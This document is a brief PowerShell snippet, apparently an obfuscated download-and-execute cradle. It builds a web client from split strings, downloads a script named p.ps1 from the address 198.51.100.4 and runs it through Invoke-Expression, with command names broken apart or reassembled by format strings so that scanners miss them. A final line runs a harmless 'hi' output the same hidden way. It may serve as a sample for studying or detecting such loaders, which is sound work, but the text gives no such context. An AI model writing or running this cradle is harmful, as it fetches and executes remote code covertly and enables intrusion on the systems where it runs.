$o = & ('New-' + 'Object') ('Net.' + 'Web' + 'Client')
$u = 'http://198.51.100.4/' + 'p.ps1'
& ('I' + 'E' + 'X') ($o.('Download' + 'String')($u))
.("{1}{0}" -f 'X', 'IE') ("{0}{1}" -f 'Write-Out', 'put hi')
